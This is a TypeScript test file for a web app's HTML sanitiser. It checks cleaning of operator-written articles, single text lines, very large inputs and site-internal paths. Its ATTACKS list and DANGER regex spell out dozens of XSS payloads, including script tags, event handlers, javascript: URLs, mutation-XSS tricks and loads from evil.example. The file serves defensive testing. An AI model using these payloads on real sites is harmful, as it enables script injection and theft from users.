import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { cleanHtml, cleanLine, isOwnPath, wordsOf } from './content.clean.ts';
import { cleanBody, isTower } from './content.clean-apart.ts';

// From the filter evasion list of OWASP and the mutations that browsers make of broken markup.
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="/\\evil.example/x.png">',
  '<img src="//evil.example/x.png">',
  '<img src="/a.png" srcset="//evil.example/x.png 2x" style="x:expression(alert(1))">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="http://plain.example">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onclick="alert(1)" id="location" name="location" class="fixed">x</p>',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="//evil.example">',
  '<form action="//evil.example"><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>go</button></form>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><script>alert(1)</script></textarea>',
  '<!--><script>alert(1)</script-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p title="`onmouseover=alert(1)">x</p>',
  '<table background="javascript:alert(1)"><tr><td background="x">x</td></tr></table>',
];
const DANGER =
  /<\s*(script|style|svg|math|iframe|object|embed|form|input|link|meta|base|template|video|noscript)|\son[a-z]+\s*=|javascript:|vbscript:|data:|srcset|srcdoc|style=|id=|class=|evil\.example/i;
// Escaped text is no tag.
const tagsOf = (html: string) => (html.match(/<[^>]*>/g) ?? []).join(' ');

describe('HTML of an operator (ASVS 1.3.1)', () => {
  test.each(ATTACKS)('%s is harmless after cleaning, alone and inside a paragraph', (attack) => {
    for (const html of [attack, `<p>before ${attack} after</p>`, `<b><i>${attack}</i></b>`, attack.repeat(3)]) {
      const cleaned = cleanHtml(html);
      expect(tagsOf(cleaned)).not.toMatch(DANGER);
      // The stored text is a fixed point: cleaning on display cannot change it again.
      expect(cleanHtml(cleaned)).toBe(cleaned);
    }
  });

  test('a valid article is left unchanged', () => {
    const html =
      '<h2>Nạp tiền</h2><p>Từ <strong>10</strong> đến 5&nbsp;000, <a href="/help">xem thêm</a>.</p><ol start="3"><li>một</li></ol><table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>';
    expect(cleanHtml(html)).toBe(html.replace('&nbsp;', '\u00a0'));
  });

  test('an external link opens in a new tab and sends no referrer', () => {
    expect(cleanHtml('<a href="https://example.org/a" target="_self" rel="opener">x</a>')).toBe(
      '<a href="https://example.org/a" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    expect(cleanHtml('<a href="mailto:help@example.org">x</a>')).toBe('<a href="mailto:help@example.org">x</a>');
  });
});

describe('one line of text', () => {
  test.each([
    ['<script>alert(1)</script>Hello', 'alert(1)Hello'],
    ['<<b>script>x<</b>/script>', 'x'],
    ['<img src=x onerror=alert(1)', ''],
    ['a < b and 5 > 3', 'a < b and 5 > 3'],
    ['  two\n\tlines ', 'two lines'],
    ['admin\u202egnp.exe\u0000', 'admingnp.exe'],
    ['Chúc mừng 🏮👩‍👩‍👧 e\u0301', 'Chúc mừng 🏮👩‍👩‍👧 é'],
  ])('%j is stored as %j', (typed, stored) => {
    expect(cleanLine(typed)).toBe(stored);
    expect(cleanLine(stored)).toBe(stored);
  });
});

describe('large texts', () => {
  test('an article of two megabytes is cleaned without blocking the server', async () => {
    const html = '<p>one <b>two</b> <script>x</script></p>'.repeat(50_000);
    const spentMs = async (work: () => unknown) => {
      const before = process.threadCpuUsage();
      await work();
      return process.threadCpuUsage(before).user / 1000;
    };
    let cleaned: string | null = null;
    const apartMs = await spentMs(async () => {
      cleaned = await cleanBody(html);
    });
    expect(cleaned).toBe('<p>one <b>two</b> </p>'.repeat(50_000));
    // CPU time of this thread, which serves requests, whatever else the machine does.
    expect(apartMs).toBeLessThan((await spentMs(() => cleanHtml(html))) / 2);
  }, 60_000);

  test('deeply nested open tags are refused before parsing', async () => {
    expect(isTower('<b>'.repeat(501))).toBe(true);
    expect(isTower('<b>x</b><p>y<li>z'.repeat(10_000))).toBe(false);
    expect(await cleanBody('<div>'.repeat(300_000))).toBe(null);
  });
});

test('the search compares without tags', () => {
  expect(wordsOf('<p>A &amp; B</p><p>&lt;b&gt; &amp;lt;</p>')).toBe('A & B <b> &lt;');
});

test('the words of cleaned text are those that were typed', () => {
  const word = fc.string({ unit: fc.constantFrom(...'ab<>&"\'; '), maxLength: 30 });
  const escaped = (text: string) =>
    text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
  fc.assert(
    fc.property(word, (text) => {
      expect(wordsOf(cleanHtml(`<p>${escaped(text)}</p>`))).toBe(text.replace(/\s+/g, ' ').trim());
    }),
  );
});

test('a path of this site is one in a browser’s reading, whatever it holds', () => {
  const part = fc.constantFrom('/', '\\', '.', 'a', ':', '@', '?', '#', '\t', '\n', ' ', 'evil.example');
  const typed = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.array(part).map((parts) => `/${parts.join('')}`),
  );
  fc.assert(
    fc.property(typed, (path) => {
      if (isOwnPath(path)) expect(new URL(path, 'https://lantern.example').origin).toBe('https://lantern.example');
    }),
    { numRuns: 2000 },
  );
  expect(['/', '/a?b=1#c', '/a//b'].map(isOwnPath)).toEqual([true, true, true]);
});
